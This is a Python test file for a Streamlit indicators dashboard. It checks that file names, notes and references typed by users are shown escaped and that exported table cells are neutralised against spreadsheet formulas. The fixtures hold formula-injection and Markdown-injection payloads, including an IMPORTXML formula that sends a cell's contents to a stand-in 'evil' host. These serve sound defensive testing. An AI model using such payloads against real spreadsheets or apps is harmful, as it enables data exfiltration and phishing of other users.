"""AppTest: user text is shown as text. A file name, a note or an OPD typed by one user reaches other
users' screens; it must neither render as Markdown (a link, or an image the browser fetches) nor
reach a spreadsheet as a formula through Streamlit's own "Download as CSV" of a table.

The Markdown element's value is what the browser renders: the user's text must be in it in its
escaped form (:func:`ui.aman.md`), with no ``![…](…)`` or ``[…](…)`` left. Every text cell of every
table on the page must be free of a formula start (at the beginning or after ``;``/``,``).
"""

from __future__ import annotations

import datetime as dt
import re
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from indicators.akun import pengguna as akun
from indicators.ekspor import tabel as et
from indicators.gugus import layanan as gugus_layanan, simpan as gugus_simpan
from indicators.impor import terapkan as impor
from indicators.katalog.data_dukung import data_dukung_bawaan
from indicators.katalog.model import katalog_bawaan
from indicators.lokasi import PROYEK
from tests.halaman_util import buka_halaman, periksa_tanpa_galat
from ui import aman

BAIK = PROYEK / "tests" / "data" / "impor" / "baik"
NAMA_JAHAT = "![x](http://127.0.0.1:9/x.png) [klik](http://evil).csv"
NAMA_RUMUS = '=HYPERLINK("http://evil";"klik") a;=cmd.csv'
CATATAN = 'Lihat a;=HYPERLINK("http://evil","klik") dan 1,=cmd'
REFERENSI = '=IMPORTXML(CONCAT("http://evil/?",A1),"//a")'
_SESUDAH_PEMISAH = re.compile(r"[;,] *[=+\-@\t\r].", re.DOTALL)
# A number the page formatted through Babel ("-68,67", "1.234,5"): a spreadsheet reads it as a number.
_ANGKA_BABEL = re.compile(r"[-−]?\d{1,3}(\.\d{3})*(,\d+)?")


def _sesi(nama: str) -> dict[str, object]:
    return {"kla_masuk": {"nama": nama, "aktif": time.time()}}


def _teks_md(at: AppTest) -> list[str]:
    """Every Markdown-rendered text of the run: markdown, captions, alerts."""
    unsur = [*at.markdown, *at.caption, *at.warning, *at.info, *at.error, *at.success, *at.subheader, *at.title]
    return [str(u.value) for u in unsur]


def _sel_berbahaya(at: AppTest) -> list[str]:
    """Text cells of every table on the page that a spreadsheet would read as a formula."""
    sel = [v for df in at.dataframe for kolom in df.value.columns for v in df.value[kolom] if isinstance(v, str)]
    assert sel
    teks = [v for v in sel if not _ANGKA_BABEL.fullmatch(v)]
    return [v for v in teks if et.berbahaya(v) or _SESUDAH_PEMISAH.search(v)]


def _tanpa_markdown_aktif(teks: list[str]) -> None:
    for t in teks:
        assert "![x](" not in t, t
        assert "[klik](" not in t, t


@pytest.fixture
def db_aman(db: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A private database with an admin and an editor, pointed at by the app; caches emptied."""
    path = akun.path_akun(db)
    akun.tambah_pengguna(path, "boss", "admin", [], "admin-jateng-2025")
    akun.tambah_pengguna(path, "ana.pkl", "editor", ["33.75"], "kota-batik-2025!")
    monkeypatch.setenv("KLA_DB", str(db))
    monkeypatch.delenv(akun.ENV_TAMPILAN_PUBLIK, raising=False)
    st.cache_data.clear()
    st.cache_resource.clear()
    yield db
    st.cache_data.clear()
    st.cache_resource.clear()


def _impor(db: Path, asal: str, nama: str) -> None:
    """Import a good test file under another name (the name an uploader's browser sent)."""
    kat = katalog_bawaan()
    hasil = impor.periksa_berkas((BAIK / asal).read_bytes(), nama, kat, impor.muat_wilayah(db))
    assert hasil.sah, [m.teks("id") for m in hasil.masalah]
    impor.terapkan(db, hasil, kat, pengguna="boss")


def test_nama_berkas_di_prompt_pembatalan_dan_riwayat(db_aman: Path):
    _impor(db_aman, "skor_baik.csv", NAMA_JAHAT)
    _impor(db_aman, "predikat_baik.csv", NAMA_RUMUS)
    sesi = {**_sesi("boss"), "unggah_batal_id": 1}
    at = periksa_tanpa_galat(buka_halaman("unggah", sesi=sesi).run())
    prompt = [w.value for w in at.warning if "Batalkan impor #1" in w.value]
    assert len(prompt) == 1
    assert f"({aman.md(NAMA_JAHAT)})" in prompt[0]
    assert r"!\[x\](http\:" in prompt[0]  # escaped: shown as written, no image fetched, no link
    _tanpa_markdown_aktif(_teks_md(at))
    riwayat = at.dataframe[-1].value
    assert set(riwayat["Berkas"]) == {NAMA_JAHAT, "'" + NAMA_RUMUS.replace(";=", ";'=")}
    assert not _sel_berbahaya(at)


def _alur(db: object, nama: object, isi: object) -> None:
    """Steps 2–3 of the Unggah page for one uploaded file (AppTest cannot fill the uploader)."""
    from pathlib import Path as _Path

    from indicators.akun import pengguna as _akun
    from ui import cache as _cache
    from ui.bagian import unggah as hu

    path = _Path(str(db))
    pengguna = _akun.cari_pengguna(_akun.path_akun(path), "boss")
    assert pengguna is not None
    kat = _cache.katalog()
    hasil, prat = hu._periksa(path, str(isi).encode("utf-8"), str(nama), None, pengguna, kat)
    hu.render_hasil(path, hasil, prat, pengguna, kat, "id")


def test_masalah_berkas_dengan_rumus_dan_nama_jahat(db_aman: Path):
    isi = (
        "tahun;kode_wilayah;indikator;tahap;nilai;sumber;catatan\n"
        "2025;33.75;KLA24-01;final;=1+1;Berita acara;a\n"
        "2025;33.75;KLA24-02;final;@SUM(A1);Berita acara;b\n"
        "2025;=cmd;KLA24-03;final;5;Berita acara;c\n"
    )
    at = AppTest.from_function(_alur, default_timeout=120, kwargs={"db": db_aman, "nama": NAMA_JAHAT, "isi": isi})
    at = periksa_tanpa_galat(at.run(), galat=1)
    keterangan = [c.value for c in at.caption if "SHA-256" in c.value]
    assert len(keterangan) == 1
    assert aman.md(NAMA_JAHAT) in keterangan[0]
    _tanpa_markdown_aktif(_teks_md(at))
    masalah = at.dataframe[0].value
    assert {"'=1+1", "'@SUM(A1)", "'=cmd"} <= set(masalah["Nilai"])
    assert not _sel_berbahaya(at)


def test_checklist_dan_riwayat_gugus_tugas_netral(db_aman: Path):
    hari_ini = dt.date.today()
    dd = data_dukung_bawaan()
    rk = gugus_layanan.ruang_kerja(db_aman, katalog_bawaan(), dd, "33.75", hari_ini)
    r = rk.butir.iloc[0]
    pengguna = akun.cari_pengguna(akun.path_akun(db_aman), "ana.pkl")
    assert pengguna is not None
    ubah = gugus_simpan.UbahButir(str(r["indikator"]), str(r["butir"]), "dalam_proses", None, None, CATATAN, REFERENSI)
    assert gugus_simpan.simpan_butir(gugus_simpan.path_gugus(db_aman), pengguna, "33.75", [ubah], dd) >= 2
    at = periksa_tanpa_galat(buka_halaman("gugus_tugas", wilayah="33.75").run())
    checklist = next(df.value for df in at.dataframe if "Catatan" in df.value.columns)
    assert checklist["Catatan"].iloc[0] == 'Lihat a;\'=HYPERLINK("http://evil","klik") dan 1,\'=cmd'
    assert "'" + REFERENSI in set(checklist["Referensi dokumen"])
    riwayat = at.dataframe[-1].value
    assert "'" + REFERENSI in set(riwayat["Baru"])
    assert not _sel_berbahaya(at)
